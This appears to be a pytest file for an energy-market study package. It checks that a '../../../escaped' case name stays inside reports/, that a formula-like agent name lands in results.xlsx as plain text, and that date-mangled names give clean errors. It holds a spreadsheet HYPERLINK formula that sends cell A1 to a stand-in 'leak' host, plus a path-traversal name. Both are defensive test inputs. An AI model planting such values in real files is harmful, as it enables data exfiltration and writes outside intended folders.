"""Text from a workbook never becomes a path outside the intended folder or a live formula in results.xlsx
(issue 20, items 3 and 4)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from ecodec.io.delta import delta_problem
from ecodec.results.workbook import write_results_workbook
from ecodec.study import compare_case

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hostile_study(tmp_path_factory):
    """A market whose name climbs out of reports/ and whose first agent is named like a formula."""
    problem, network = delta_problem(3, 0)
    problem.name = "../../../escaped"
    renamed = {problem.agents[0].name: FORMULA}
    problem.agents[0].name = FORMULA
    network = type(network)(tuple(renamed.get(a, a) for a in network.agents),
                            tuple((renamed.get(a, a), renamed.get(b, b)) for a, b in network.edges), "named")
    out = tmp_path_factory.mktemp("hostile") / "runs"
    study = compare_case(problem, ["centralized", "aggregative-tracking"], network=network,
                         stopping={"max_iterations": 5}, output=out)
    return study, out


def test_a_case_name_never_leads_the_report_outside_reports(hostile_study, tmp_path):
    _, out = hostile_study
    work = tmp_path / "deep" / "er" / "work"
    work.mkdir(parents=True)
    done = subprocess.run([sys.executable, "-m", "ecodec", "report", str(out)], capture_output=True, text=True,
                          cwd=work, env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert done.returncode == 0, done.stderr
    assert (work / "reports" / "escaped.pdf").read_bytes()[:5] == b"%PDF-"
    written = [p for p in tmp_path.rglob("*.pdf")]
    assert written == [work / "reports" / "escaped.pdf"]


def test_text_that_looks_like_a_formula_is_stored_as_text(hostile_study, tmp_path):
    study, _ = hostile_study
    path = write_results_workbook(study.run("aggregative-tracking"), tmp_path / "results.xlsx")
    book = openpyxl.load_workbook(path)
    formulas = [(ws.title, c.coordinate) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert FORMULA in texts  # the agent's name, exactly as given (costs, dispatch_long)
    assert any(t.startswith(FORMULA + " ") for t in texts)  # the dispatch headers 'agent quantity [unit]'
    assert any(t.startswith(f"x:{FORMULA}:") for t in texts)  # the history headers


def test_an_agent_name_that_excel_stored_as_a_date_is_reported_not_a_traceback(tmp_path):
    """Issue 20, item 8: '2-1' typed into a name cell becomes a date; the network then names '2-1'."""
    import datetime
    import shutil

    path = tmp_path / "dated.xlsx"
    shutil.copy("cases/microgrid_8.xlsx", path)
    book = openpyxl.load_workbook(path)
    book["microturbines"].cell(2, 1).value = datetime.datetime(2026, 2, 1)
    book["network"].cell(2, 1).value = "2-1"
    book.save(path)
    done = subprocess.run([sys.executable, "-m", "ecodec", "validate", str(path)], capture_output=True, text=True)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert ("sheet 'microturbines', row 2, column 'name': got the date or time 2026-02-01 (Excel's reading of text "
            "such as 2-1; to keep text, type it with a leading apostrophe); expected a non-empty text") in done.stderr
    assert "sheet 'network', row 2, column 'from': got '2-1'; expected the name of an agent" in done.stderr
